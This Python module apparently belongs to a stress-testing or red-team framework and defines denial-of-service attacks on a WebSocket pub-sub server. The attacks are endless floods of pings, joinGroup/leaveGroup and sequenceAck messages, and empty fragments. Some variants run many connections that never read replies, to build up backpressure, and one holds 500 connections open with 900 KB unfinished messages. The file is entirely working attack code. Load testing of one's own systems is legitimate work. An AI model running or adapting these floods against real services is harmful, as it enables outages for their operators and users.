"""Attacks with WebSocket frames: far too many of them, and messages that never end."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final, NamedTuple

from siege.plan import Attack
from siege.target import Target, drain, opened, together
from support.raw import CONT, JSON, JSON_RELIABLE, PING, TEXT, frame

BLOCK: Final = 5000
"""Frames made in advance and sent again and again; more than the server remembers ids of."""

SMALL_BUFFER: Final = 4096
"""Of a socket that does not read: little disappears in its kernel."""

HALF_BYTES: Final = 900_000
"""Of an unfinished message: nearly as much as one may have."""

GROUP: Final = "blue_T00_orderflow_orderflow"


class Flood(NamedTuple):
    """Frames that are sent without end, what comes before them, and over which subprotocol."""

    frames: list[bytes]
    opening: bytes = b""
    subprotocol: str = JSON


def _texts(count: int, make: Callable[[int], dict[str, Any]]) -> list[bytes]:
    return [frame(TEXT, json.dumps(make(number)).encode()) for number in range(count)]


def _pings() -> Flood:
    return Flood([frame(PING) for _ in range(BLOCK)])


def _json_pings() -> Flood:
    return Flood(_texts(BLOCK, lambda _: {"type": "ping"}))


def _leaves() -> Flood:
    return Flood(_texts(BLOCK, lambda number: {"type": "leaveGroup", "group": GROUP, "ackId": number}))


def _same_ack() -> Flood:
    return Flood(_texts(BLOCK, lambda _: {"type": "leaveGroup", "group": GROUP, "ackId": 7}))


def _joins() -> Flood:
    return Flood(_texts(BLOCK, lambda number: {"type": "joinGroup", "group": f"blue_X{number}", "ackId": number}))


def _join_leave() -> Flood:
    kinds = "joinGroup", "leaveGroup"
    return Flood(_texts(BLOCK, lambda number: {"type": kinds[number % 2], "group": GROUP, "ackId": number}))


def _sequence_acks() -> Flood:
    return Flood(_texts(BLOCK, lambda _: {"type": "sequenceAck", "sequenceId": 1}), b"", JSON_RELIABLE)


def _empty_fragments() -> Flood:
    return Flood([frame(CONT, fin=False)] * BLOCK, frame(TEXT, fin=False))


def flood(make: Callable[[], Flood], read: bool, target: Target) -> None:
    """Send such frames as fast as they are taken."""
    frames, opening, subprotocol = make()
    block = b"".join(frames)

    def one(_number: int) -> None:
        raw = target.connect(subprotocol, receive_buffer=None if read else SMALL_BUFFER)
        with raw:
            raw.socket.settimeout(None)
            if read:
                drain(raw)
            raw.send(opening)
            while True:
                raw.send(block)
                target.did += len(frames)

    together(target, one)


def flood_of(make: Callable[[int], dict[str, Any]], target: Target) -> None:
    """Send messages, numbered, as fast as they are taken; the answers are read."""
    flood(lambda: Flood(_texts(BLOCK, make)), True, target)


def half_messages(target: Target) -> None:
    """Unfinished messages, each nearly as long as it may be."""
    half = frame(TEXT, bytes(HALF_BYTES), fin=False)

    def one(_number: int) -> socket.socket:
        raw = target.connect(JSON)
        raw.send(half)
        return raw.socket

    for _ in opened(target, target.connections, one):
        target.did += 1
    target.begun()


_KINDS: Final[dict[str, tuple[Callable[[], Flood], str, bool]]] = {
    "pings": (_pings, "WebSocket pings without end", True),
    "json-pings": (_json_pings, "JSON pings without end", True),
    "leaves": (_leaves, "leaveGroup with ack ids", True),
    "joins": (_joins, "joinGroup of ever other groups", True),
    "join-leave": (_join_leave, "joinGroup and leaveGroup in turns", True),
    "same-ack": (_same_ack, "the same ack id again and again", True),
    "sequence-acks": (_sequence_acks, "sequenceAck without end", False),
    "fragments": (_empty_fragments, "empty fragments of one message", False),
}
"""How the frames are made, what they are, and whether they are answered."""


def _floods() -> Iterator[tuple[str, Attack]]:
    for name, (make, what, answered) in _KINDS.items():
        for connections in (1, 8):
            yield f"{name}-{connections}", Attack(partial(flood, make, True), connections, what)
        if answered:
            yield f"{name}-unread-8", Attack(partial(flood, make, False), 8, f"{what}, no answer read")


ATTACKS: Final[dict[str, Attack]] = {
    **dict(_floods()),
    "leaves-unread-64": Attack(partial(flood, _leaves, False), 64, "leaveGroup with ack ids, no answer read"),
    "half-messages": Attack(half_messages, 500, "900 KB of a message each, and no end"),
}
